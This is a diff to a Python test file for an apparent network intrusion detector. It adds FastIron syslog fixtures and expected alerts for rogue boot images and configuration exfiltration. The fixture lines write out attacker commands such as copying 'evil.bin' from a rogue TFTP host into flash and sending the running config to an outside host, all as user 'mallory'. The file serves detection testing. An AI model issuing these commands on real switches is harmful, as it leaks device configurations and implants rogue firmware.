@@ -73,6 +73,11 @@ def voss(typed: str, source: str = ATTACKER) -> str:
     return f"<190>Jan  5 08:00:00 vsp1 0x002c0600 00000000 GlobalRouter CLILOG INFO  13 SSH:{source} rwa {typed}"
 
 
+def fastiron(typed: str, user: str = "mallory", source: str = ATTACKER) -> str:
+    """A command as FastIron logs it."""
+    return f'<14>Jan  5 08:00:00 icx1 CLI CMD: "{typed}" by {user} from telnet client {source}'
+
+
 def named(server: str, file: str | None, line: str, last: int) -> Notice:
     """The notice of one load: the file's name where the line has it as a word of its own."""
     return Notice(
@@ -88,6 +93,7 @@ def named(server: str, file: str | None, line: str, last: int) -> Notice:
         *(("BW05", 3, ATTACKER, f"10.0.1.{last}") for last, *_ in RELOADS),
         ("BW07", SROS, "10.0.1.211", syslog.COLLECTOR),
         ("BW07", VOSS, "10.0.1.212", syslog.COLLECTOR),
+        ("BW07", 1542007326, "10.0.1.219", syslog.COLLECTOR),
         ("BW07", 7, "10.0.1.213", syslog.COLLECTOR),
         *(
             ("BW07", sid, f"10.0.1.{last}", AAA)
@@ -100,6 +106,7 @@ def named(server: str, file: str | None, line: str, last: int) -> Notice:
         *(("BW05", 3, ATTACKER, f"10.0.1.{last}") for last, *_ in RELOADS),
         ("BW07", SROS, "10.0.1.211", syslog.COLLECTOR),
         ("BW07", VOSS, "10.0.1.212", syslog.COLLECTOR),
+        ("BW07", 1542007326, "10.0.1.219", syslog.COLLECTOR),
         ("BW07", 7, "10.0.1.213", syslog.COLLECTOR),
         *(
             ("BW07", sid, f"10.0.1.{last}", AAA)
@@ -113,6 +120,7 @@ def named(server: str, file: str | None, line: str, last: int) -> Notice:
             *(Notice("Remote_Reload", f"10.0.1.{last}") for last, *_ in RELOADS),
             Notice("Boot_Command", "10.0.1.211", ROGUE, "both.tim"),
             Notice("Boot_Command", "10.0.1.212", ROGUE, "evil.tgz"),
+            Notice("Boot_Command", "10.0.1.219", ROGUE, "evil.bin"),
             Notice("Boot_Command", "10.0.1.213", ROGUE6, "evil.cc"),
             Notice("Boot_Command", "10.0.1.214", ROGUE6, "evil.cc"),
             Notice("Boot_Command", "10.0.1.215", ROGUE, "evil.bin"),
@@ -129,6 +137,7 @@ def bw07_further_words(wire: Wire) -> None:
         console(wire, last, prompt, (line, ""))
     syslog.send(wire, "10.0.1.211", sros(f"sr1>bof#  primary-image ftp://u:p@{ROGUE}/both.tim"))
     syslog.send(wire, "10.0.1.212", voss(f"copy {ROGUE}:evil.tgz /intflash/"))
+    syslog.send(wire, "10.0.1.219", fastiron(f"copy tftp flash {ROGUE} evil.bin primary"))
     task = f'(Task=VTY0, Ip={ATTACKER}, VpnName=, User=mallory, Command="tftp ipv6 {ROGUE6} get evil.cc")'
     syslog.send(wire, "10.0.1.213", f"<189>Jan  5 2026 08:00:00 core1 %%01SHELL/5/CMDRECORD(l)[12]:Recorded. {task}")
     for last, line in (
@@ -165,6 +174,9 @@ ABROAD = (
     Notice("Config_Exfiltration", "10.0.1.228", OUTSIDE, "x.cfg"),
     Notice("Config_Exfiltration", "10.0.1.229", OUTSIDE6, "x.cfg"),
     Notice("Config_Exfiltration", "10.0.1.230", OUTSIDE6, "vrpcfg.zip"),
+    Notice("Config_Exfiltration", "10.0.1.233", OUTSIDE, "x.cfg"),
+    Notice("Boot_Command", "10.0.1.234", OUTSIDE, "evil.bin"),
+    Notice("Config_Exfiltration", "10.0.1.234", OUTSIDE, "x.cfg"),
     Notice("Boot_Command", "10.0.1.231", OUTSIDE, "both.tim"),
     Notice("Boot_Command", "10.0.1.232", OUTSIDE, "evil.tgz"),
     Notice("Config_Exfiltration", "10.0.1.231", OUTSIDE, "x.cfg"),
@@ -180,6 +192,9 @@ ABROAD = (
         ("BW18", SROS_SENDS, "10.0.1.228", syslog.COLLECTOR),
         ("BW18", VOSS_SENDS, "10.0.1.229", syslog.COLLECTOR),
         ("BW18", 1542007455, "10.0.1.230", AAA),
+        ("BW18", 1542007357, "10.0.1.233", syslog.COLLECTOR),
+        ("BW07", 1542007526, "10.0.1.234", syslog.COLLECTOR),
+        ("BW18", 1542007557, "10.0.1.234", syslog.COLLECTOR),
         ("BW07", 1542007524, "10.0.1.231", syslog.COLLECTOR),
         ("BW07", 1542007525, "10.0.1.232", syslog.COLLECTOR),
         ("BW18", 1542007555, "10.0.1.231", syslog.COLLECTOR),
@@ -194,6 +209,7 @@ ABROAD = (
             {"device": "10.0.1.228", "user": "mallory", "actor": ATTACKER},
             {"device": "10.0.1.229", "user": "rwa", "actor": ATTACKER},
             {"device": "10.0.1.230", "user": "anna", "actor": ATTACKER},
+            *({"device": f"10.0.1.{n}", "user": "mallory", "actor": ATTACKER} for n in (233, 234, 234)),
             *({"device": "10.0.1.231", "user": "mallory", "actor": ATTACKER} for _ in range(2)),
             *({"device": "10.0.1.232", "user": "rwa", "actor": ATTACKER} for _ in range(2)),
         ),
@@ -207,6 +223,9 @@ def bw18_further_words(wire: Wire) -> None:
     copied = voss(f"copy running-config tftp://[{OUTSIDE6}]/x.cfg")
     syslog.send(wire, "10.0.1.228", saved)
     syslog.send(wire, "10.0.1.229", copied)
+    told = fastiron(f"copy running-config tftp {OUTSIDE} x.cfg")
+    syslog.send(wire, "10.0.1.233", told)
+    by_tcp(wire, "10.0.1.234", fastiron(f"copy tftp flash {OUTSIDE} evil.bin secondary"), told)
     by_tcp(wire, "10.0.1.231", sros(f"sr1>bof#  primary-image ftp://u:p@{OUTSIDE}/both.tim"), saved)
     by_tcp(wire, "10.0.1.232", voss(f"copy {OUTSIDE}:evil.tgz /intflash/"), copied)
     device = tacacs.Device(wire, "10.0.1.230", AAA)
@@ -243,6 +262,7 @@ def bw07_further_words_at_work(wire: Wire) -> None:
         "copy /intflash/a /intflash/b",
     ):
         syslog.send(wire, "10.0.1.212", voss(line, ADMIN))
+        syslog.send(wire, "10.0.1.219", fastiron(line, "anna", ADMIN))
     device = tacacs.Device(wire, "10.0.1.217", AAA)
     for line in ("display scheduler reboot", "display startup", "undo scheduler reboot"):
         device.authorize(line, source=ADMIN)
